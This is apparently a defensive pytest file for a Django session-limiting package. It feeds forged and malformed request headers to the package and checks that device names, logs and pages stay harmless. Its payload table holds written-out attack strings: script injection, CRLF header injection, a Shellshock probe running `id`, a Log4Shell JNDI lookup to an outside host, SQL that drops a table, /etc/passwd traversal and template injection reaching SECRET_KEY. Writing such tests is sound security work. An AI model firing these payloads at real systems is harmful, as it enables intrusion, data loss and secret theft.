"""
Headers that no browser sends.

Nothing breaks, everything is escaped, and no address that a client claims is believed.
"""

from __future__ import annotations

import ipaddress
import json
import logging

import pytest
from django.http import HttpRequest
from django.template import engines

from session_limit.client import Device, DeviceClass, describe
from session_limit.client.device import MAX_DEVICE
from session_limit.models import UserSession
from tests.agents import WINDOWS_CHROME
from tests.stories.people import JSON, SIGNED_IN, events, live

PARROT = f"{__name__}.parrot"
CALLABLES = {
    "table": "session_limit.client.describe_device",
    # This one may return the client's own words as a name.
    "ua-parser": "session_limit.contrib.ua_parser.describe_device",
    "parrot": PARROT,
}
REMOTE = "198.51.100.7"
FORGED = "203.0.113.66"


def parrot(request):
    """Name the device by what the client says, as no project should."""
    said = request.META.get("HTTP_USER_AGENT", "")
    return Device(said, said)


def agents(**named):
    return {name: {"User-Agent": value} for name, value in named.items()}


def hints(**named):
    return {
        f"hinted {name}": {"Sec-CH-UA": value, "Sec-CH-UA-Platform": value}
        for name, value in named.items()
    }


def forwarded(**named):
    return {f"from {name}": {"X-Forwarded-For": value} for name, value in named.items()}


def as_received(text):
    """Return these bytes as a server passes them on, with one character for each."""
    return text.encode().decode("latin-1")


HOSTILE = {
    **agents(
        empty="",
        space=" " * 50,
        script="<script>alert(1)</script>/1.0",
        script_in_a_browser="Mozilla/5.0 (<script>alert(1)</script>) Firefox/145.0",
        script_for_a_family='Mozilla/5.0 (Windows NT 10.0) "><img/src=x>Browser/1.0',
        attribute='" onmouseover="alert(1)" x="',
        entity="&lt;script&gt;&#60;b&#62; Chrome/1",
        null="\x00\x00Firefox/145.0\x00",
        null_for_an_app="Shop\x00<b>/7.1 CFNetwork/3826.500 Darwin/24.5.0",
        markup_for_an_app="<b>Shop</b>/7.1 CFNetwork/3826.500 Darwin/24.5.0",
        escape="\x1b[31mred\x1b]0;title\x07 Chrome/142",
        line_break="Firefox/1\r\nSet-Cookie: sessionid=stolen\r\n\r\n<html>",
        log_line='\n{"event": "session_created:1"}\nShop/1 CFNetwork/1 Darwin/1',
        override=as_received("\u202egnp.exe\u202c Chrome/142 Android"),
        isolate=as_received("\u2066\u2067\u2068evil\u2069 Edg/1"),
        zero_width=as_received("F\u200bi\u200cr\u200de\ufefffox/145.0"),
        marks=as_received("Z" + "\u0310\u0311\u0312" * 200),
        emoji=as_received("\U0001f600" * 50),
        latin="\xff\xfe\xfd\xe9 Firefox/145.0",
        invalid_utf8="\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc Chrome/1",
        surrogate=b"\xed\xa0\x80Shop/1 CFNetwork/1".decode("latin-1"),
        overlong=b"\xc0\xbcscript\xc0\xbe".decode("latin-1"),
        huge="A" * 100_000,
        huge_browser=f"{WINDOWS_CHROME} {'x/1 ' * 25_000}",
        huge_app=f"{'Shop' * 25_000}/1 CFNetwork/1 Darwin/1",
        repeated="Macintosh X11 Mozilla/ Android " * 3_000,
        brackets="(" * 50_000 + ")" * 50_000,
        braces="{" * 10_000,
        json='{"name": "x", "device_class": "phone", "__proto__": {}}',
        json_array='["Firefox", "Android"]',
        template="{{ settings.SECRET_KEY }}{% debug %} Firefox/145.0",
        jinja="{{7*7}}${7*7}<%= 7*7 %>#{7*7}/1.0 (iPhone)",
        format_string="%s%n%(device)s{0.__class__}%x Chrome/1",
        shellshock="() { :; }; /bin/true `id` $(id) Firefox/1",
        log4j="${jndi:ldap://elsewhere.example/a} Chrome/1",
        sql="' OR 1=1; DROP TABLE session_limit_usersession; -- Edg/1",
        path="../../../../etc/passwd\x00.html Firefox/1",
        address="javascript:alert(1)//Mozilla/5.0 (iPad)",
        class_of_ours="phone",
        every_browser="Edg/1 OPR/1 Firefox/1 Chrome/1 Version/1 Safari/1 Trident/7",
        every_platform="iPhone iPad Android Mobile Windows Macintosh Linux CrOS TV",
    ),
    **hints(
        markup='"<script>alert(1)</script>";v="1", "Brave<b>";v="1"',
        unclosed='"Brave',
        backslashes='"' + "\\" * 10_000,
        quotes='"' * 10_000,
        escaped_quotes='"\\"' * 5_000,
        huge='"Chromium";v="142", ' * 10_000,
        override=as_received('"\u202eBrave\u202c";v="1"'),
        null='"Brave\x00";v="1\x00"',
        line_break='"Brave";v="1"\r\nX-Injected: 1',
        json='[{"brand": "Brave"}]',
        template='"{{ 7|add:7 }}";v="{% debug %}"',
        latin='"\xff\xfe";v="\xe9"',
    ),
    **forwarded(
        forged=FORGED,
        forged_twice=f"{FORGED}, {FORGED}",
        markup="<script>alert(1)</script>",
        zone="fe80::1%<script>alert(1)</script>",
        zone_of_a_path="fe80::1%../../eth0",
        zone_with_a_port="[fe80::1%25eth0]:443",
        mapped=f"::ffff:{FORGED}",
        octal="0313.0.0161.0102",
        number="3405803842",
        hexadecimal="0xcb.0x0.0x71.0x42",
        short="203.113",
        digits="٢٠٣.٠.١١٣.٦٦".encode().decode("latin-1"),
        prefix=f"{FORGED}/8",
        port_only=":443",
        huge_number="9" * 100_000,
        huge_list=f"{FORGED}," * 10_000,
        colons=":" * 100_000,
        brackets="[" * 100_000,
        commas="," * 100_000,
        null=f"{FORGED}\x00",
        line_break=f"{FORGED}\r\nX-Forwarded-For: {FORGED}",
        unix="unix:/run/site.sock",
        json='{"ip": "203.0.113.66"}',
        quoted=f'"{FORGED}"',
        sql="' OR 1=1; --",
        latin="\xff\xfe\xfd",
    ),
    "forged elsewhere": {
        "Forwarded": f"for={FORGED};proto=https, for={FORGED}",
        "X-Real-IP": FORGED,
        "Client-IP": FORGED,
        "True-Client-IP": FORGED,
        "CF-Connecting-IP": FORGED,
    },
    "everything at once": {
        "User-Agent": "<b>\x00\u202e</b> Firefox/1".encode().decode("latin-1"),
        "Sec-CH-UA": '"Brave',
        "Sec-CH-UA-Mobile": "?" * 1_000,
        "Sec-CH-UA-Platform": "<i>",
        "X-Forwarded-For": f"{FORGED}, <b>",
    },
}


@pytest.fixture(autouse=True)
def whole_addresses(settings):
    settings.SESSION_LIMIT_STORE_ADDRESS = "full"


def assert_harmless(name, device_class, address):
    assert len(name) <= MAX_DEVICE
    assert name.isprintable()
    assert name == name.strip()
    assert device_class in list(DeviceClass)
    assert address is None or str(ipaddress.ip_address(address)) == address


def test_there_are_fifty_and_more():
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize("named_by", CALLABLES.values(), ids=CALLABLES)
@pytest.mark.parametrize("headers", HOSTILE.values(), ids=HOSTILE)
def test_what_is_made_of_it(caplog, settings, headers, named_by):
    settings.SESSION_LIMIT_DEVICE = named_by
    request = HttpRequest()
    request.META["REMOTE_ADDR"] = REMOTE
    for name, value in headers.items():
        request.META[f"HTTP_{name.upper().replace('-', '_')}"] = value
    for proxies in (2, 1, 0):
        settings.SESSION_LIMIT_TRUSTED_PROXIES = proxies
        client = describe(request)
        assert_harmless(client.device, client.device_class, client.address)
    assert client.address == REMOTE
    # None of these counts as a failure, or a client could fill the log.
    assert caplog.records == []


@pytest.mark.parametrize("served", ["sync"])  # a header is read alike in both
@pytest.mark.parametrize("headers", HOSTILE.values(), ids=HOSTILE)
def test_what_people_and_logs_see_of_it(ada, laptop, phone, caplog, settings, headers):
    settings.SESSION_LIMIT_DEVICE = PARROT
    caplog.set_level(logging.INFO, logger="session_limit")
    assert laptop.sign_in(headers=headers).status_code == 302
    assert laptop.state == SIGNED_IN
    (row,) = live(ada)
    assert_harmless(row.device, row.device_class, row.address)
    assert row.address != FORGED
    row.full_clean(exclude=["key_digest", "ended_reason"])

    for record in caplog.records:
        assert record.getMessage().isprintable()
        assert json.loads(record.getMessage())["event"]
    assert [event["event"] for event in events(caplog)] == [f"session_created:{ada.pk}"]

    # A name may contain markup, which a page escapes.
    page = "<td title='{{ row.device }}'>{{ row.device }} {{ row.address }}</td>"
    shown = engines["django"].from_string(page).render({"row": row})
    assert shown.count("<") == shown.count(">") == 2
    assert shown.count("'") == 2

    phone.sign_in()
    assert row.pk in UserSession.objects.ended().values_list("pk", flat=True)
    for kind in ({}, JSON):
        response = laptop.get(laptop.path("members"), headers={**headers, **kind})
        assert response.status_code in {302, 401}
        for said in (b"alert(1)", b"elsewhere.example", FORGED.encode()):
            assert said not in response.content
            assert said not in response.serialize_headers()


@pytest.mark.parametrize("named_by", CALLABLES.values(), ids=CALLABLES)
def test_everything_at_once_however_it_is_served(ada, laptop, settings, named_by):
    settings.SESSION_LIMIT_DEVICE = named_by
    assert laptop.sign_in(headers=HOSTILE["everything at once"]).status_code == 302
    assert laptop.state == SIGNED_IN
    (row,) = live(ada)
    assert_harmless(row.device, row.device_class, row.address)
    assert row.address != FORGED
